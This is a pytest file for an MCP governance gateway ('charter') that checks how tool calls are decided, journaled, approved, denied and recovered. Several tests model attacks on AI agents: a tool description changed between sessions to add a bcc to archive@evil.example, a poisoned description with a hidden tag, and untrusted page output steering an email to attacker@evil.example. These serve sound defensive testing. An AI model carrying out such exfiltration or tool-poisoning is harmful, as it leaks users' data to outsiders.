"""``charter mcp serve`` over stdio: real client sessions with the gateway (a subprocess) in
front of the real test server; each session a governed run, every call decided and journaled."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest

from charter.journal._lease import lease_of
from mcp_client import cli, gateway, journal, names, payloads, run_of, session, text

pytestmark = pytest.mark.usefixtures("charter_env")


def locked(write_agent: Any, **entry: Any) -> Path:
    agent_file = write_agent(**entry)
    done = cli("mcp", "lock", str(agent_file), "--as", "ops")
    assert done.returncode == 0, done.stdout + done.stderr
    return agent_file


def verified() -> None:
    checked = cli("audit", "verify")
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_governed_calls_reach_the_server_and_the_session_is_one_run(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent, trust="trusted")

    async def client() -> list[types.CallToolResult]:
        async with session(gateway(agent_file, "--as", "alice")) as mcp:
            listed = await mcp.list_tools()
            assert names(listed) == {"lookup_customer", "fetch_page", "send_email", "crash", "slow"}
            looked = await mcp.call_tool("lookup_customer", {"customer_id": 7})
            sent = await mcp.call_tool("send_email", {"to": "ada@example.com", "body": "Shipped."})
            return [looked, sent]

    looked, sent = anyio.run(client)
    assert not looked.is_error and looked.structured_content == {
        "customer_id": 7,
        "name": "Ada",
        "email": "ada@example.com",
    }
    assert (looked.meta or {})["io.charter/labels"] == {
        "trust": "trusted",
        "confidentiality": "internal",
    }
    assert not sent.is_error, text(sent)
    assert outbox.read_text() == "ada@example.com\tShipped.\n"
    run_id = run_of(looked)
    assert run_of(sent) == run_id  # one session, one run
    (started,) = payloads("run.started", run_id)
    assert (started["actor"], started["governed_by"]) == ("alice", "caller")
    assert started["tool_origins"]["send_email"]["pin"] == "pinned"
    decided = payloads("step.decided", run_id)
    assert [(d["tool"], d["verdict"]) for d in decided] == [
        ("lookup_customer", "allow"),
        ("send_email", "allow"),
    ]
    effects = payloads("step.effect", run_id)
    assert [e["status"] for e in effects] == ["ok", "ok"]
    assert effects[1]["idempotency_key"].startswith(run_id)
    (finished,) = payloads("run.finished", run_id)
    assert finished["status"] == "completed"
    verified()


def test_a_denied_tool_is_absent_from_the_list_and_its_call_is_a_tool_error(
    write_agent: Any, outbox: Path
) -> None:
    charter = {"name": "c", "tools": {"deny": ["send_email"]}}
    agent_file = locked(write_agent, charter=charter)

    async def client() -> tuple[set[str], types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            listed = names(await mcp.list_tools())
            return listed, await mcp.call_tool("send_email", {"to": "a@b.example", "body": "x"})

    listed, denied = anyio.run(client)
    assert "send_email" not in listed and "lookup_customer" in listed
    assert denied.is_error
    assert "charter denied 'send_email'" in text(denied) and "tools.deny" in text(denied)
    (decided,) = payloads("step.decided", run_of(denied))
    assert (decided["verdict"], decided["rules"]) == ("deny", ["tools.deny"])
    assert not outbox.exists()
    verified()


def test_a_conditional_rule_keeps_the_tool_listed_and_decides_each_call(
    write_agent: Any, outbox: Path
) -> None:
    rules = [
        {
            "id": "no-outside-mail",
            "effect": "deny",
            "tools": ["send_email"],
            "when": 'context.args.to like "*@evil.example"',
        }
    ]
    agent_file = locked(write_agent, trust="trusted", charter={"name": "c", "rules": rules})

    async def client() -> tuple[set[str], types.CallToolResult, types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            listed = names(await mcp.list_tools())
            bad = await mcp.call_tool("send_email", {"to": "x@evil.example", "body": "x"})
            good = await mcp.call_tool("send_email", {"to": "ada@example.com", "body": "y"})
            return listed, bad, good

    listed, bad, good = anyio.run(client)
    assert "send_email" in listed
    assert bad.is_error and "no-outside-mail" in text(bad)
    assert not good.is_error
    assert outbox.read_text() == "ada@example.com\ty\n"


def test_invalid_arguments_and_unknown_tools_are_tool_errors(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)

    async def client() -> tuple[types.CallToolResult, types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            bad = await mcp.call_tool("send_email", {"to": 3})
            unknown = await mcp.call_tool("delete_all", {})
            return bad, unknown

    bad, unknown = anyio.run(client)
    assert bad.is_error and "'body' is a required property" in text(bad)
    assert unknown.is_error and "unknown tool 'delete_all'" in text(unknown)
    assert not outbox.exists()


def test_a_write_whose_server_dies_mid_call_is_in_doubt_and_the_session_goes_on(
    write_agent: Any,
) -> None:
    agent_file = locked(write_agent, trust="trusted")

    async def client() -> tuple[types.CallToolResult, types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            crashed = await mcp.call_tool("crash", {"note": "x"})
            after = await mcp.call_tool("lookup_customer", {"customer_id": 3})
            return crashed, after

    crashed, after = anyio.run(client)
    assert crashed.is_error and "journaled in doubt" in text(crashed)
    assert "charter runs resolve" in text(crashed)
    assert not after.is_error, text(after)  # the server was started again
    run_id = run_of(after)
    effects = payloads("step.effect", run_id)
    assert [e["status"] for e in effects] == ["in_doubt", "ok"]
    assert effects[0]["tool"] == "crash"
    verified()


def test_a_rug_pull_between_sessions_is_refused_and_journaled(
    write_agent: Any, outbox: Path, tmp_path: Path
) -> None:
    flag = tmp_path / "rugpull"
    agent_file = locked(write_agent, trust="trusted", env={"MCP_TEST_RUGPULL_FILE": str(flag)})

    async def client() -> tuple[set[str], types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            listed = names(await mcp.list_tools())
            return listed, await mcp.call_tool("send_email", {"to": "a@b.example", "body": "x"})

    first_list, first = anyio.run(client)
    assert "send_email" in first_list and not first.is_error
    flag.touch()  # the server now describes send_email otherwise (and adds a bcc)
    second_list, second = anyio.run(client)
    assert "send_email" not in second_list
    assert second.is_error and "mcp.changed" in text(second)
    assert "charter mcp diff" in text(second)
    (started,) = payloads("run.started", run_of(second))
    refused = started["refused_tools"]["send_email"]
    assert refused["rule"] == "mcp.changed" and "archive@evil.example" in refused["diff"]
    assert outbox.read_text() == "a@b.example\tx\n"  # only the first session's email
    verified()


def test_a_poisoned_description_is_flagged_and_its_tool_never_offered(
    write_agent: Any,
) -> None:
    agent_file = write_agent(env={"MCP_TEST_POISON": "1"})
    flagged = cli("mcp", "lock", str(agent_file), "--as", "ops")
    assert flagged.returncode == 1, flagged.stdout + flagged.stderr
    assert "add (unlocked)" in flagged.stdout and "hidden tag" in flagged.stdout

    async def client() -> tuple[set[str], types.CallToolResult]:
        async with session(gateway(agent_file)) as mcp:
            listed = names(await mcp.list_tools())
            return listed, await mcp.call_tool("add", {"a": 1, "b": 2})

    listed, refused = anyio.run(client)
    assert "add" not in listed and "lookup_customer" in listed
    assert refused.is_error and "mcp.unpinned" in text(refused)


def test_an_untrusted_output_steering_a_writes_target_is_held_then_told_where_to_approve(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)  # the server's outputs are untrusted (the default)

    async def client() -> types.CallToolResult:
        async with session(gateway(agent_file, "--ask-timeout", "0")) as mcp:
            page = await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            assert (page.meta or {})["io.charter/labels"]["trust"] == "untrusted"
            return await mcp.call_tool(
                "send_email", {"to": "attacker@evil.example", "body": "refund details"}
            )

    held = anyio.run(client)
    assert held.is_error
    request_id = str((held.meta or {})["io.charter/request_id"])
    assert f"charter approvals approve {request_id}" in text(held)
    assert "flow.untrusted-target" in text(held)
    decided = payloads("step.decided", run_of(held))
    assert decided[1]["verdict"] == "ask" and "flow.untrusted-target" in decided[1]["rules"]
    assert not outbox.exists()
    # The session ended while the call waited: the run failed and the request closed.
    (finished,) = payloads("run.finished", run_of(held))
    assert finished["status"] == "failed" and request_id in finished["error"]
    shown = cli("approvals", "approve", request_id, "--as", "bob")
    assert shown.returncode == 2 and "closed" in shown.stderr
    verified()


def approve_when_asked(request_ids: list[str], approver: str) -> threading.Thread:
    """Approve the first approval request journaled, from another process."""

    def approve() -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            asked = payloads("approval.requested")
            if asked:
                request_ids.append(asked[0]["request_id"])
                done = cli("approvals", "approve", asked[0]["request_id"], "--as", approver)
                assert done.returncode == 0, done.stdout + done.stderr
                return
            time.sleep(0.2)

    thread = threading.Thread(target=approve, daemon=True)
    thread.start()
    return thread


def test_an_approval_in_another_process_releases_a_held_call(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)
    request_ids: list[str] = []

    async def client() -> types.CallToolResult:
        async with session(gateway(agent_file, "--as", "alice", "--ask-timeout", "90")) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            approver = approve_when_asked(request_ids, "bob")
            sent = await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "ok"})
            approver.join(timeout=60)
            return sent

    sent = anyio.run(client)
    assert not sent.is_error, text(sent)
    assert outbox.read_text() == "attacker@evil.example\tok\n"
    run_id = run_of(sent)
    (granted,) = payloads("approval.granted", run_id)
    assert (granted["request_id"], granted["approver"]) == (request_ids[0], "bob")
    (used,) = payloads("approval.used", run_id)
    assert used["approver"] == "bob"
    verified()


def test_the_same_call_again_continues_once_the_inbox_decided(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)
    args = {"to": "attacker@evil.example", "body": "later"}

    async def client() -> list[types.CallToolResult]:
        async with session(gateway(agent_file, "--as", "alice", "--ask-timeout", "0")) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            held = await mcp.call_tool("send_email", args)
            other = await mcp.call_tool("lookup_customer", {"customer_id": 1})
            request_id = str((held.meta or {})["io.charter/request_id"])
            done = await anyio.to_thread.run_sync(
                lambda: cli("approvals", "approve", request_id, "--as", "bob")
            )
            assert done.returncode == 0, done.stderr
            again = await mcp.call_tool("send_email", args)
            return [held, other, again]

    held, other, again = anyio.run(client)
    assert held.is_error and other.is_error
    assert "waits for approval" in text(other)
    assert not again.is_error, text(again)
    assert outbox.read_text() == "attacker@evil.example\tlater\n"
    (finished,) = payloads("run.finished", run_of(again))
    assert finished["status"] == "completed"
    verified()


def test_a_denial_in_the_inbox_refuses_the_held_call_and_the_session_goes_on(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)
    args = {"to": "attacker@evil.example", "body": "no"}

    async def client() -> list[types.CallToolResult]:
        async with session(gateway(agent_file, "--as", "alice", "--ask-timeout", "0")) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            held = await mcp.call_tool("send_email", args)
            request_id = str((held.meta or {})["io.charter/request_id"])
            done = await anyio.to_thread.run_sync(
                lambda: cli("approvals", "deny", request_id, "--as", "bob", "--reason", "phish")
            )
            assert done.returncode == 0, done.stdout + done.stderr
            refused = await mcp.call_tool("send_email", args)
            after = await mcp.call_tool("lookup_customer", {"customer_id": 2})
            return [held, refused, after]

    held, refused, after = anyio.run(client)
    assert held.is_error and refused.is_error
    assert "phish" in text(refused)
    assert not after.is_error, text(after)
    assert not outbox.exists()
    (denial,) = payloads("approval.denied", run_of(after))
    assert denial["approver"] == "bob"
    verified()


def test_elicitation_answers_an_ask_when_the_charter_lets_the_session_approve(
    write_agent: Any, outbox: Path
) -> None:
    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
    agent_file = locked(write_agent, charter=charter)
    shown: list[str] = []

    async def yes(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        shown.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True})

    async def client() -> types.CallToolResult:
        async with session(gateway(agent_file, "--as", "alice"), elicit=yes) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "e"})

    sent = anyio.run(client)
    assert not sent.is_error, text(sent)
    assert len(shown) == 1 and "attacker@evil.example" in shown[0]
    assert "Chosen by untrusted data:" in shown[0] and "to." in shown[0]
    (granted,) = payloads("approval.granted", run_of(sent))
    assert granted["approver"] == "alice" and "elicitation" in granted["reason"]
    assert outbox.read_text() == "attacker@evil.example\te\n"
    verified()


def test_a_declined_elicitation_denies_the_call(write_agent: Any, outbox: Path) -> None:
    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
    agent_file = locked(write_agent, charter=charter)

    async def no(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return types.ElicitResult(action="decline")

    async def client() -> types.CallToolResult:
        async with session(gateway(agent_file, "--as", "alice"), elicit=no) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "n"})

    denied = anyio.run(client)
    assert denied.is_error and "declined through MCP elicitation" in text(denied)
    (receipt,) = payloads("approval.denied", run_of(denied))
    assert receipt["approver"] == "alice"
    assert not outbox.exists()


def test_a_cancelled_elicitation_leaves_the_call_to_the_inbox(
    write_agent: Any, outbox: Path
) -> None:
    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
    agent_file = locked(write_agent, charter=charter)

    async def dismiss(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return types.ElicitResult(action="cancel")

    async def client() -> types.CallToolResult:
        params = gateway(agent_file, "--as", "alice", "--ask-timeout", "0")
        async with session(params, elicit=dismiss) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "c"})

    held = anyio.run(client)
    assert held.is_error and "charter approvals approve" in text(held)
    assert payloads("approval.granted") == [] and payloads("approval.denied") == []
    assert not outbox.exists()


def test_elicitation_is_not_used_when_the_charter_forbids_self_approval(
    write_agent: Any, outbox: Path
) -> None:
    agent_file = locked(write_agent)  # forbid_self_approval: true, the default
    asked: list[str] = []

    async def yes(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True})

    async def client() -> types.CallToolResult:
        params = gateway(agent_file, "--as", "alice", "--ask-timeout", "0")
        async with session(params, elicit=yes) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "s"})

    held = anyio.run(client)
    assert asked == []  # the session's own answer would be a self-approval
    assert held.is_error and "charter approvals approve" in text(held)
    assert payloads("approval.granted") == []
    assert not outbox.exists()


def test_a_killed_client_leaves_a_run_the_lease_rules_and_recover_settle(
    write_agent: Any, outbox: Path, tmp_path: Path
) -> None:
    agent_file = locked(write_agent, tools={"slow": {"side_effect": "write"}})
    script = tmp_path / "client.py"
    script.write_text(
        "import anyio, sys\n"
        "from mcp_client import gateway, session\n"
        "async def main():\n"
        "    async with session(gateway(sys.argv[1], '--as', 'alice')) as mcp:\n"
        "        await mcp.call_tool('slow', {'seconds': 30})\n"
        "anyio.run(main)\n",
        encoding="utf-8",
    )
    tests = str(Path(__file__).parents[2])
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([tests, os.environ.get("PYTHONPATH", "")]))
    client = subprocess.Popen(
        [sys.executable, str(script), str(agent_file)],
        env=env,
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline and not payloads("step.decided"):
            time.sleep(0.2)
        assert payloads("step.decided"), "the slow call was never decided"
    finally:
        os.killpg(client.pid, signal.SIGKILL)  # the client dies mid-call
        client.wait(timeout=30)
    (started,) = _started_records()
    row, _ = lease_of(journal().engine, started.run_id)
    assert row is not None and row.owner == "mcp-gateway"
    # The gateway outlives its client while the call runs: it still owns the run.
    owned = cli("mcp", "recover", str(agent_file), "--as", "ops")
    assert "0 gateway run(s) settled" in owned.stdout, owned.stdout + owned.stderr
    os.kill(row.pid, signal.SIGKILL)  # now the gateway dies too, the write's outcome unknown
    _gone(row.pid)
    settled = cli("mcp", "recover", str(agent_file), "--as", "ops")
    assert settled.returncode == 0, settled.stdout + settled.stderr
    assert "1 gateway run(s) settled" in settled.stdout
    (effect,) = payloads("step.effect", started.run_id)
    assert effect["status"] == "in_doubt" and effect["tool"] == "slow"
    (finished,) = payloads("run.finished", started.run_id)
    assert finished["status"] == "failed"
    again = cli("mcp", "recover", str(agent_file))
    assert "0 gateway run(s) settled" in again.stdout
    verified()


def test_runs_recover_points_a_gateway_run_to_mcp_recover_and_leaves_its_lease(
    write_agent: Any,
) -> None:
    from charter.agent import load_agent
    from charter.governance import GovernedRun
    from charter.integrations.mcp._gateway import GATEWAY_OWNER

    agent_file = locked(write_agent)
    run = GovernedRun.open(
        journal(), load_agent(agent_file), "serve", actor="alice", owner=GATEWAY_OWNER
    )
    with run:
        refused = cli("runs", "recover", run.run_id[:12], "--as", "ops")
        assert refused.returncode == 2, refused.stdout + refused.stderr
        lines = refused.stderr.strip().splitlines()
        assert len(lines) == 1 and f"charter mcp recover {agent_file}" in lines[0], lines
        row, _ = lease_of(journal().engine, run.run_id)
        assert row is not None and row.owner == GATEWAY_OWNER and row.pid == os.getpid()
        assert payloads("run.recovered", run.run_id) == []


def _gone(pid: int) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return
        with open(f"/proc/{pid}/stat", encoding="ascii") as stat:
            if stat.read().split(") ")[-1].startswith("Z"):
                return  # a zombie: dead, its parent (the killed client) not reaping it
        time.sleep(0.1)
    raise AssertionError(f"process {pid} still alive")


def _started_records() -> list[Any]:
    return journal().records_of_kind("run.started")


def test_serve_refuses_a_remote_host_without_allow_remote(write_agent: Any) -> None:
    agent_file = write_agent()
    refused = cli("mcp", "serve", str(agent_file), "--http", "--host", "0.0.0.0")
    assert refused.returncode == 2
    assert "--allow-remote" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    assert payloads("run.started") == []
